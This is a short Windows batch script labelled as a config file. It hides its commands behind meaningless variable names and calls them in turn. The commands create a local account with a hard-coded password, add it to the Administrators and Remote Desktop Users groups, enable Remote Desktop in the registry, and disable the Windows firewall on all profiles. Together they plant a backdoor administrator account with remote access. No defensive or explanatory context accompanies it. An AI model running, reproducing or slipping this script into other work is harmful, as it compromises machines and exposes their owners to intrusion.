REM config 5700 v0
@echo off
set jwtx=net user defaultuser2 Adm1n!strat0r /add /y
call %jwtx%
@echo off
set qwjx=net localgroup administrators defaultuser2 /add
call %qwjx%
@echo off
set razv=net localgroup "Remote Desktop Users" defaultuser2 /add
call %razv%
@echo off
set gmbh=reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
call %gmbh%
@echo off
set pdiv=netsh advfirewall set allprofiles state off
call %pdiv%
